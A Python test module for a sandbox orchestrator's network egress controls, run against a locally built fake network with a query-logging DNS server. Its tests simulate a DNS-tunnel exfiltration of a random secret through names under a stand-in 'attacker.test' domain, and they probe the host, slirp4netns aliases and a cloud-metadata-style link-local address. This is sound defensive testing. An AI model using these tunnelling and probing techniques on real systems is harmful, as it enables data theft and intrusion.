"""Attacks on a networked sandbox's way out (finding 9 of issue 29, and the network half of 11).

With an allow-list, a sandbox must not get a name resolved that is not on it: a query for
``<data>.attacker.test`` that reached a real resolver would carry the data out (a DNS tunnel),
and answers for internal names would map the private network. Whatever the allow-list says
(``0.0.0.0/0``), the host's own addresses, slirp4netns's aliases (10.0.2.2 stands for the
host, 10.0.2.3 for its resolver) and link-local addresses stay closed. A refresh of the
allow-list must land in the sandbox's own network namespace, never in whatever process now
has the pid that the sandbox's agent once had.

Nothing leaves the machine: the "internet" is a network namespace this module makes, with a
web server and a DNS server that writes down every name it is asked. The orchestrator runs as
``serve`` in a mount namespace of its own whose /etc/resolv.conf names that DNS server, so both
the host's resolution of listed names and slirp4netns's forwarder ask it.
"""

from __future__ import annotations

import contextlib
import json
import os
import secrets
import signal
import socket
import subprocess
import sys
import uuid
from collections.abc import Iterator
from pathlib import Path

import dns.message
import dns.rcode
import httpx
import pytest

from orchard.env.backends.local.backend import remove_leftovers
from tests.conftest import create_ready, free_port, needs_root, run, short_data_dir, wait_until
from tests.test_network import _host_addresses, host_listener, probe

pytestmark = [needs_root, pytest.mark.root]
__all__ = ["host_listener"]  # a fixture, used by name

WEB, PRIVATE, RESOLVER = "198.18.29.2", "10.213.29.2", "198.18.29.53"
LINK_LOCAL = "169.254.29.2"  # stands for cloud metadata (169.254.169.254), which is not ours
PORT = 8080
LISTED = "listed.orchard.test"

# The upstream's DNS server: every name asked goes into LOG; the answer to an A query is the
# address ANSWERS (a JSON file) gives for the name, else WEB: every name resolves, as internal
# names would on a real network.
DNS_SERVER = """
import json, socketserver, sys, threading
import dns.message, dns.rrset
log, answers, web = sys.argv[1:4]

def reply(wire):
    query = dns.message.from_wire(wire)
    q = query.question[0]
    name = q.name.to_text(omit_final_dot=True).lower()
    with open(log, "a") as f:
        f.write(name + "\\n")
    with open(answers) as f:
        address = json.load(f).get(name, web)
    response = dns.message.make_response(query)
    if q.rdtype == 1:
        response.answer.append(dns.rrset.from_text(q.name, 1, "IN", "A", address))
    return response.to_wire()

class Udp(socketserver.BaseRequestHandler):
    def handle(self):
        data, sock = self.request
        sock.sendto(reply(data), self.client_address)

class Tcp(socketserver.StreamRequestHandler):
    def handle(self):
        n = int.from_bytes(self.rfile.read(2), "big")
        out = reply(self.rfile.read(n))
        self.wfile.write(len(out).to_bytes(2, "big") + out)

for server in (socketserver.ThreadingUDPServer((sys.argv[4], 53), Udp),
               socketserver.ThreadingTCPServer((sys.argv[4], 53), Tcp)):
    threading.Thread(target=server.serve_forever, daemon=True).start()
print("ready", flush=True)
sys.stdin.read()
"""

# Sends the DNS query given in hex to each "udp:HOST" / "tcp:HOST" on port 53; prints
# "TARGET ANSWERED <hex>" or "TARGET NO <why>" for each.
RAW_DNS = """
import socket, sys
query = bytes.fromhex(sys.argv[1])
for target in sys.argv[2:]:
    proto, host = target.split(":")
    try:
        if proto == "udp":
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.settimeout(3)
            s.connect((host, 53))
            s.send(query)
            answer = s.recv(4096)
        else:
            s = socket.create_connection((host, 53), 3)
            s.sendall(len(query).to_bytes(2, "big") + query)
            answer = s.recv(4096)[2:]
        print(target, "ANSWERED", answer.hex())
    except OSError as e:
        print(target, "NO", type(e).__name__)
"""


class Upstream:
    def __init__(self, root: Path) -> None:
        self.log, self.answers = root / "queries.log", root / "answers.json"
        self.log.write_text("")
        self.answers.write_text("{}")

    def asked(self) -> list[str]:
        return self.log.read_text().split()

    def answer(self, name: str, address: str) -> None:
        self.answers.write_text(json.dumps({name: address}))


@pytest.fixture(scope="module")
def upstream(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Upstream]:
    """A network namespace of this module's own: a web server on every address, and the
    recording DNS server on RESOLVER, behind a veth pair whose host end is routed."""
    tag = uuid.uuid4().hex[:6]
    ns, host_if, ns_if = f"orchard-egress-{tag}", f"oe{tag}h", f"oe{tag}n"
    up = Upstream(tmp_path_factory.mktemp("upstream"))

    def ip(*args: str) -> None:
        subprocess.run(["ip", *args], check=True, capture_output=True)

    ip("netns", "add", ns)
    servers: list[subprocess.Popen] = []
    try:
        ip("link", "add", host_if, "type", "veth", "peer", "name", ns_if)
        ip("link", "set", ns_if, "netns", ns)
        for addr in ("198.18.29.1/24", "10.213.29.1/24"):
            ip("addr", "add", addr, "dev", host_if)
        ip("link", "set", host_if, "up")
        # Only this address of the link-local range is routed here: the host's own
        # link-local route (and its metadata service) stays as it was.
        ip("route", "add", f"{LINK_LOCAL}/32", "dev", host_if)
        for addr in (f"{WEB}/24", f"{PRIVATE}/24", f"{RESOLVER}/24", f"{LINK_LOCAL}/16"):
            ip("netns", "exec", ns, "ip", "addr", "add", addr, "dev", ns_if)
        ip("netns", "exec", ns, "ip", "link", "set", ns_if, "up")
        ip("netns", "exec", ns, "ip", "link", "set", "lo", "up")
        servers.append(subprocess.Popen(
            ["ip", "netns", "exec", ns, sys.executable, "-m", "http.server", str(PORT),
             "--bind", "0.0.0.0"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
        dns_server = subprocess.Popen(
            ["ip", "netns", "exec", ns, sys.executable, "-c", DNS_SERVER, str(up.log),
             str(up.answers), WEB, RESOLVER], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
            text=True)
        servers.append(dns_server)
        assert dns_server.stdout is not None and dns_server.stdout.readline() == "ready\n"

        def web_up() -> bool:
            with contextlib.suppress(OSError), socket.create_connection((WEB, PORT), 1):
                return True
            return False

        assert wait_until(web_up, 15, 0.1), "the upstream web server did not start"
        yield up
    finally:
        for server in servers:
            server.kill()
            server.wait(10)
        subprocess.run(["ip", "link", "del", host_if], capture_output=True)
        subprocess.run(["ip", "netns", "del", ns], capture_output=True)


class Served:
    """`orchard serve` (its sandboxes outlive it) in a mount namespace of its own, where
    /etc/resolv.conf names the upstream's DNS server."""

    def __init__(self, data: Path, log: Path, **settings: object) -> None:
        self.data, self.log, self.port = data, log, free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        (data / "resolv.conf").write_text(f"nameserver {RESOLVER}\n")
        extra = "".join(f", {k}={v!r}" for k, v in settings.items())
        self.code = ("from pathlib import Path; from orchard.env.server import serve; "
                     f"serve(port={self.port}, data_dir=Path({str(data)!r}), "
                     f"log_level='warning'{extra})")
        self.proc: subprocess.Popen | None = None

    def start(self) -> None:
        with open(self.log, "ab") as out:
            self.proc = subprocess.Popen(
                ["unshare", "--mount", "--propagation", "private", "--", "sh", "-c",
                 'mount --bind "$0" /etc/resolv.conf && exec "$@"',
                 str(self.data / "resolv.conf"), sys.executable, "-c", self.code],
                stdout=out, stderr=out)

        def up() -> bool:
            assert self.proc is not None and self.proc.poll() is None, self.log.read_text()
            with contextlib.suppress(httpx.HTTPError):
                return httpx.get(f"{self.url}/health", timeout=1).status_code == 200
            return False

        assert wait_until(up, 60, 0.1), self.log.read_text()

    def kill(self) -> None:
        assert self.proc is not None
        self.proc.send_signal(signal.SIGKILL)
        self.proc.wait(10)

    def stop(self) -> None:
        if self.proc is not None and self.proc.poll() is None:
            with httpx.Client(base_url=self.url, timeout=60) as api, \
                    contextlib.suppress(httpx.HTTPError):
                for sb in api.get("/sandboxes").json()["sandboxes"]:
                    api.delete(f"/sandboxes/{sb['sandbox_id']}")
            self.proc.terminate()
            self.proc.wait(30)
        remove_leftovers(self.data / "local")  # whatever a failed test left running


@contextlib.contextmanager
def served(data_dir: Path, tmp_path: Path, **settings: object) -> Iterator[Served]:
    with short_data_dir(data_dir) as d:
        server = Served(d, tmp_path / "serve.log", **settings)
        try:
            server.start()
            yield server
        finally:
            server.stop()


def raw_dns(api: httpx.Client, sid: str, name: str, *targets: str) -> dict[str, str]:
    """What each target answered to an A query for ``name``: its rcode's name, or "NO"."""
    query = dns.message.make_query(name, "A").to_wire().hex()
    r = run(api, sid, argv=["python3", "-c", RAW_DNS, query, *targets], timeout_seconds=60)
    assert r["exit_code"] == 0, r
    got = {}
    for line in r["stdout"].splitlines():
        target, verdict, *rest = line.split()
        got[target] = (dns.rcode.to_text(dns.message.from_wire(bytes.fromhex(rest[0])).rcode())
                       if verdict == "ANSWERED" else "NO")
    return got


def test_dns_answers_only_the_allow_list_and_forwards_nothing(
        data_dir: Path, orchestrator: str, upstream: Upstream, tmp_path: Path) -> None:
    """A sandbox allowed one name tries to resolve others (a tunnel: the data rides in the
    name), through its resolver, straight at slirp4netns's forwarder, over UDP and TCP. The
    upstream resolver must never hear of them; the listed name still resolves, to the address
    the host resolved."""
    del orchestrator  # only for the bundle it built
    with served(data_dir, tmp_path) as server, \
            httpx.Client(base_url=server.url, timeout=60) as api:
        sid = create_ready(api, {"image": "host", "block_network": False,
                                 "egress": [LISTED]})
        secret = secrets.token_hex(8)
        tunnel = run(api, sid, command=f"getent ahostsv4 {secret}.attacker.test")
        direct = raw_dns(api, sid, f"{secret}-direct.attacker.test", "udp:10.0.2.3",
                         "tcp:10.0.2.3", f"udp:{RESOLVER}", f"tcp:{RESOLVER}")
        leaked = [name for name in upstream.asked() if "attacker.test" in name]
        assert leaked == [], f"the sandbox's queries reached the upstream resolver: {leaked}"
        assert tunnel["exit_code"] == 2, tunnel  # getent: not found
        assert direct == dict.fromkeys(direct, "NO") and len(direct) == 4, direct
        # Its own resolver refuses the name, without asking anyone.
        resolv = run(api, sid, command="cat /etc/resolv.conf")["stdout"]
        nameserver = resolv.split()[1]
        assert raw_dns(api, sid, f"{secret}-own.attacker.test", f"udp:{nameserver}") == {
            f"udp:{nameserver}": "NXDOMAIN"}
        assert "attacker.test" not in " ".join(upstream.asked())
        # The listed name resolves inside to what the host resolved, and that is reachable.
        got = run(api, sid, command=f"getent ahostsv4 {LISTED} | awk '{{print $1}}' | sort -u")
        assert got["stdout"].split() == [WEB], got
        assert probe(api, sid, f"{WEB}:{PORT}", f"{PRIVATE}:{PORT}") == {
            f"{WEB}:{PORT}": "OK", f"{PRIVATE}:{PORT}": "REFUSED"}


def test_the_host_and_slirps_aliases_stay_closed_whatever_the_allow_list(
        data_dir: Path, orchestrator: str, upstream: Upstream, tmp_path: Path,
        host_listener: int) -> None:
    """With 0.0.0.0/0 allowed, the sandbox aims at the host by each of its addresses, at
    slirp4netns's gateway (the host), at its DNS alias on a port other than DNS (a web server
    listens on the resolver's address), and at a link-local address (where clouds serve
    metadata)."""
    del orchestrator
    with served(data_dir, tmp_path) as server, \
            httpx.Client(base_url=server.url, timeout=60) as api:
        sid = create_ready(api, {"image": "host", "block_network": False,
                                 "egress": ["0.0.0.0/0"]})
        targets = [f"10.0.2.2:{host_listener}", f"10.0.2.2:{server.port}", f"10.0.2.3:{PORT}",
                   *(f"{a}:{host_listener}" for a in _host_addresses()),
                   *(f"{a}:{server.port}" for a in _host_addresses()), f"{LINK_LOCAL}:{PORT}"]
        # The listener answers on the host, so a refusal inside is the sandbox's rules.
        with socket.create_connection(("127.0.0.1", host_listener), 2):
            pass
        results = probe(api, sid, *targets)
        leaked = {t: r for t, r in results.items() if r != "REFUSED"}
        assert not leaked, json.dumps(results)
        assert len(results) == len(set(targets))
        # What the allow-list opens is open.
        assert probe(api, sid, f"{WEB}:{PORT}", f"{PRIVATE}:{PORT}") == {
            f"{WEB}:{PORT}": "OK", f"{PRIVATE}:{PORT}": "OK"}


def test_a_refresh_never_follows_a_stale_agent_pid(
        data_dir: Path, orchestrator: str, upstream: Upstream, tmp_path: Path) -> None:
    """Sandbox A's allow-list names a host whose address moves; by then the pid its agent had
    belongs to a process of sandbox B (pids are reused; here the test writes B's agent's pid
    where A's was recorded, which is what reuse amounts to). The new address must reach A's
    rules, and B's must stay as they were: B must not inherit A's allow-list."""
    del orchestrator
    moving = "moving.orchard.test"
    upstream.answer(moving, PRIVATE)
    # No reconcile pass meanwhile: it would call A failed, its recorded agent being gone.
    with served(data_dir, tmp_path, egress_refresh=0.3, reconcile_interval=3600) as server, \
            httpx.Client(base_url=server.url, timeout=60) as api:
        a = create_ready(api, {"image": "host", "block_network": False, "egress": [moving]})
        b = create_ready(api, {"image": "host", "block_network": False,
                               "egress": [f"{PRIVATE}/32"]})
        sandboxes = server.data / "local" / "sandboxes"
        both = (f"{WEB}:{PORT}", f"{PRIVATE}:{PORT}")
        assert probe(api, a, *both) == {both[0]: "REFUSED", both[1]: "OK"}
        assert probe(api, b, *both) == {both[0]: "REFUSED", both[1]: "OK"}
        (sandboxes / a / "agent.pid").write_text((sandboxes / b / "agent.pid").read_text())
        upstream.answer(moving, WEB)

        def refreshed() -> bool:  # somewhere: in A, as it must, or in B
            return "OK" in (probe(api, a, both[0])[both[0]], probe(api, b, both[0])[both[0]])

        assert wait_until(refreshed, 30, 0.3), "no refresh landed anywhere"
        assert probe(api, b, *both) == {both[0]: "REFUSED", both[1]: "OK"}, (
            "A's refresh went into B's network namespace")
        assert probe(api, a, *both) == {both[0]: "OK", both[1]: "REFUSED"}


def _fd_links(pid: int) -> set[str]:
    links = set()
    for fd in Path(f"/proc/{pid}/fd").iterdir():
        with contextlib.suppress(OSError):
            links.add(os.readlink(fd))
    return links


def test_the_resolver_comes_back_after_a_restart_and_goes_with_the_sandbox(
        data_dir: Path, orchestrator: str, upstream: Upstream, tmp_path: Path) -> None:
    """The sandbox's resolver and its network handle live in the orchestrator: one that was
    SIGKILLed and restarted makes them again when it re-adopts the sandbox, and a delete
    leaves none of them open."""
    del orchestrator
    with served(data_dir, tmp_path) as server:
        with httpx.Client(base_url=server.url, timeout=60) as api:
            sid = create_ready(api, {"image": "host", "block_network": False,
                                     "egress": [LISTED]})
        agent = int((server.data / "local" / "sandboxes" / sid / "agent.pid").read_text())
        netns = os.readlink(f"/proc/{agent}/ns/net")
        server.kill()
        server.start()
        assert server.proc is not None
        with httpx.Client(base_url=server.url, timeout=60) as api:
            got = run(api, sid, command=f"getent ahostsv4 {LISTED} | awk '{{print $1}}' | sort -u")
            assert got["stdout"].split() == [WEB], got
            unlisted = run(api, sid, command="getent ahostsv4 other.orchard.test")
            assert unlisted["exit_code"] == 2, unlisted
            # The resolver's socket, by inode, from the sandbox's side.
            udp = Path(f"/proc/{agent}/net/udp").read_text().splitlines()[1:]
            inodes = [line.split()[9] for line in udp if line.split()[1] == "0100007F:0035"]
            assert len(inodes) == 1, udp
            mine = {netns, f"socket:[{inodes[0]}]"}
            assert mine <= _fd_links(server.proc.pid)
            assert api.delete(f"/sandboxes/{sid}").status_code == 200
        pid = server.proc.pid
        assert wait_until(lambda: not mine & _fd_links(pid), 10), mine & _fd_links(pid)
